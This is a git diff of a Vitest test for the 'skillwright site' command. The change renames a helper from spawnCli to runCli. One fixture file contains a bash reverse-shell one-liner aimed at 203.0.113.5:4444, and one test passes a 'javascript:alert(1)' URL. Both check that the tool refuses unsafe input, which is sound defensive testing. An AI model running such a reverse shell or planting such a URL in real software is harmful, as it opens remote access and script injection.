@@ -3,13 +3,13 @@ import path from 'node:path';
 import { expect, test } from 'vitest';
 
 import { scratch } from '../registry/support.ts';
-import { skillText, spawnCli, writeFiles } from './run-cli.ts';
+import { skillText, runCli, writeFiles } from './run-cli.ts';
 
 test('skillwright site writes a site, names every refused skill, and takes only addresses of sites', async () => {
   const folder = scratch();
   mkdirSync(path.join(folder, 'home'));
   writeFiles(folder, { 'skills/tables/SKILL.md': skillText('tables', 'Works on tables. Use it for tables.') });
-  const written = await spawnCli(folder, [
+  const written = await runCli(folder, [
     'site',
     'skills',
     '--url',
@@ -26,7 +26,7 @@ test('skillwright site writes a site, names every refused skill, and takes only 
     'more/shell/x.sh': 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n',
     'more/other/SKILL.md': skillText('wrong', 'Has another name.'),
   });
-  const refused = await spawnCli(folder, ['site', 'more', '--out', 'public', '--json']);
+  const refused = await runCli(folder, ['site', 'more', '--out', 'public', '--json']);
   expect(refused.status).toBe(3);
   expect(JSON.parse(refused.out)).toMatchObject({
     ok: false,
@@ -34,7 +34,7 @@ test('skillwright site writes a site, names every refused skill, and takes only 
   });
   expect(existsSync(path.join(folder, 'public'))).toBe(false);
 
-  expect(await spawnCli(folder, ['site', 'skills', '--url', 'javascript:alert(1)'])).toMatchObject({
+  expect(await runCli(folder, ['site', 'skills', '--url', 'javascript:alert(1)'])).toMatchObject({
     status: 2,
     err: expect.stringContaining('--url is not the address of a site') as string,
   });
